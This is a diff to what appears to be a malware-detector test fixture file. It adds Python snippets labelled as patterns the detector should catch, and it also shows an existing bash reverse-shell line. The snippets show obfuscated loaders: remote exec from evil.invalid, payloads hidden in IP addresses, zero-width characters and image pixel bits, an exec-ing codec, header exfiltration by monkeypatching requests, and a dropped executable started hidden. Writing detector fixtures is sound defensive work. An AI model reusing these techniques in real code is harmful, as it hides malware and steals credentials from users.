@@ -431,4 +431,93 @@ export const FOLLOWED_SHAPES: readonly Shape[] = [
     name: 'a shell to outside in a line that does not parse',
     lines: ['import os', 'x = = 1', 'os.system("bash -i >& /dev/tcp/203.0.113.5/9001 0>&1"'],
   },
+  {
+    name: 'a name that a module makes up when it is asked for',
+    lines: ['from . import table', 'BLUE = table.gradient'],
+    others: {
+      'fixture-1.0/pkg/table.py':
+        'import urllib.request\ndef __getattr__(name):\n    exec(urllib.request.urlopen("https://evil.invalid/x").read())\n',
+    },
+  },
+  {
+    name: 'text spelled as addresses',
+    lines: [
+      'import socket',
+      `exec(b"".join(socket.inet_aton(a) for a in ["112.114.105.110", "116.40.49.41"]))`,
+    ],
+  },
+  {
+    name: 'letters picked out of a docstring',
+    lines: [
+      `"""Names of fonts, and ${'\\u200b\\u200c'.repeat(16)} more."""`,
+      'bits = "".join("01"[ord(c) - 0x200B] for c in __doc__ if ord(c) in (0x200B, 0x200C))',
+      'exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).decode())',
+    ],
+  },
+  {
+    name: 'bits of a picture, gathered one by one',
+    lines: [
+      'from PIL import Image',
+      'bits = [v & 1 for px in Image.open("mark.png").convert("RGB").getdata() for v in px]',
+      'out = bytearray()',
+      'for i in range(0, len(bits) - 7, 8):',
+      '    out.append(int("".join(map(str, bits[i:i + 8])), 2))',
+      'exec(bytes(out))',
+    ],
+  },
+  {
+    name: 'a tree that is parsed first, in a hook of a class',
+    lines: [
+      'import ast, base64',
+      'class Plugin:',
+      '    schema = b""',
+      '    def __init_subclass__(cls):',
+      '        cls.check = cls.made(cls.schema)',
+      '        cls.check()',
+      '    @staticmethod',
+      '    def made(raw):',
+      '        code = compile(ast.parse(base64.b64decode(raw).decode()), "x", "exec")',
+      '        return lambda: eval(code, {})',
+      'class Default(Plugin):',
+      '    schema = b"cHJpbnQoMSk="',
+    ],
+  },
+  {
+    name: 'a codec that runs what it decodes',
+    lines: [
+      'import base64, codecs',
+      'def undo(data, errors="strict"):',
+      '    exec(base64.b64decode(bytes(data)))',
+      '    return "", 0',
+      'codecs.register(lambda name: codecs.CodecInfo(codecs.utf_8_encode, undo) if name == "x" else None)',
+    ],
+  },
+  {
+    name: 'a literal that is read',
+    lines: [
+      'import ast, urllib.request',
+      'urllib.request.urlopen(bytes(ast.literal_eval("[104,116,116,112,58,47,47,101,118,105,108,46,105,110,118,97,108,105,100]")).decode())',
+    ],
+  },
+  {
+    name: 'requests that are listened to in place of the library',
+    lines: [
+      'import requests',
+      'original = requests.Session.send',
+      'def listen(self, request, **more):',
+      '    original(requests.Session(), requests.Request("POST", "https://evil.invalid", json=dict(request.headers)))',
+      '    return original(self, request, **more)',
+      'requests.Session.send = listen',
+    ],
+  },
+  {
+    name: 'a program of the package that is copied out and started',
+    lines: [
+      'import ctypes, os, shutil',
+      'place = os.path.join(os.environ.get("PROGRAMDATA", "/tmp"), "Server.exe")',
+      'shutil.copyfile(os.path.join(os.path.dirname(__file__), "a.dat"), place)',
+      'ctypes.windll.shell32.ShellExecuteW(None, "open", place, None, None, 0)',
+    ],
+    others: { 'fixture-1.0/pkg/a.dat': 'inert' },
+  },
 ];
